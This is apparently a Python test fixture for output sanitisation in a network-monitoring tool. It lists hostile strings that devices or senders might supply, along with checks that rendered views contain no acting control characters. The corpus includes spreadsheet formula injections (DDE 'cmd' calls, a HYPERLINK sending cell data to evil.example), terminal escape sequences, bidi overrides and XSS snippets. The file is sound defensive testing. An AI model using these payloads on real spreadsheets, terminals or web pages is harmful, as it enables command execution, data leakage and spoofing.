"""Text from outside as an attacker (or a broken device) sends it, and what a view may emit.

Issue 17, findings 6 and 7: complaint subjects and senders, WhatsApp text, SNMP sysName/ifAlias
and LLDP names, SSH output reach terminals, notifications, reports and spreadsheets. Every
entry of :data:`CORPUS` carries a printable ``marker`` that must still be readable wherever it
is shown, and the output must pass :func:`unsafe` (no character that acts instead of showing).
"""

from __future__ import annotations

import re
import unicodedata
from typing import Final, NamedTuple

ACTING_CATEGORIES: Final = frozenset({"Cc", "Cf", "Cs", "Zl", "Zp"})
ALLOWED: Final = frozenset("\n\t\u200c\u200d")  # line breaks; joiners inside emoji
SGR: Final = re.compile(r"\x1b\[[0-9;]*m")  # rich's own colours in a terminal


class Hostile(NamedTuple):
    """One hostile text and a printable word of it that must stay visible."""

    text: str
    marker: str


# the neighbour name an RB760iGS reported over LLDP (lldpRemSysName, hex in the recording):
# "peca-sw02", NUL padding, then a hex dump with newlines
LLDP_NAME: Final = "peca-sw02" + "\x00" * 7 + "\n00 00 00 00 00 00 00 00 \n00 00 00 00 "

CORPUS: Final = (
    Hostile('=HYPERLINK("http://evil.example/?x="&A1,"klik")', "klik"),
    Hostile("+1+cmd|' /C calc'!A0 tambah", "calc"),
    Hostile("-2+3+cmd|' /C notepad'!A0 kurang", "notepad"),
    Hostile("@SUM(A1:A9) jumlah", "SUM"),
    Hostile("\t=1+1 tab-awal", "tab-awal"),
    Hostile("\r=1+1 cr-awal", "cr-awal"),
    Hostile("\x1b]0;PWNED-judul\x07 judul terminal", "PWNED-judul"),
    Hostile("\x1b]2;PWNED-st\x1b\\ judul ST", "PWNED-st"),
    Hostile("\x1b[2J\x1b[H\x1b[3J layar-bersih", "layar-bersih"),
    Hostile("\x1b[8mtersembunyi\x1b[0m", "tersembunyi"),
    Hostile("\x1b]8;;http://evil.example/\x1b\\tautan-palsu\x1b]8;;\x1b\\", "tautan-palsu"),
    Hostile("\x9b31m merah-c1 \x9d0;judul-c1\x9c \x85nel", "merah-c1"),
    Hostile("bel\x07 bs\x08\x08 nul\x00 del\x7f vt\x0b ff\x0c crlf\r\n kendali", "kendali"),
    Hostile("\u202egnp.exe \u2066isolasi\u2069 \u200bzw \ufeffbom \u2028ls\u2029ps", "gnp.exe"),
    Hostile("[bold]tebal[/bold] [red]merah", "[bold]tebal[/bold]"),
    Hostile("[/nonexistent] penutup", "[/nonexistent]"),
    Hostile("[link=http://evil.example/]tautan-markup[/link] [/]", "[link=http://evil.example/]"),
    Hostile(":warning: :smile: emoji-kode", ":warning:"),
    Hostile("<script>alert(1)</script> <img src=x onerror=alert(1)> html-mentah", "html-mentah"),
    Hostile(
        "[klik-md](http://evil.example) ![gambar](http://evil.example/x.png) &#8238;", "klik-md"
    ),
    Hostile(LLDP_NAME, "peca-sw02"),
    Hostile("panjang " + "x" * 10_000, "panjang"),
)
NO_NUL: Final = tuple(Hostile(h.text.replace("\x00", ""), h.marker) for h in CORPUS)  # PostgreSQL
RENDER_ONLY: Final = (Hostile("lone \udcff surrogate", "surrogate"),)  # never stored (UTF-8)


def unsafe(text: str) -> list[str]:
    """Characters in ``text`` that act instead of showing (``U+001B`` ...), sorted."""
    return sorted(
        {
            f"U+{ord(c):04X}"
            for c in text
            if c not in ALLOWED and unicodedata.category(c) in ACTING_CATEGORIES
        }
    )


def assert_shown(text: str, corpus: tuple[Hostile, ...] = CORPUS) -> None:
    """No acting character in ``text``, and every marker of ``corpus`` readable."""
    assert unsafe(text) == []
    missing = [h.marker for h in corpus if h.marker not in text]
    assert missing == []
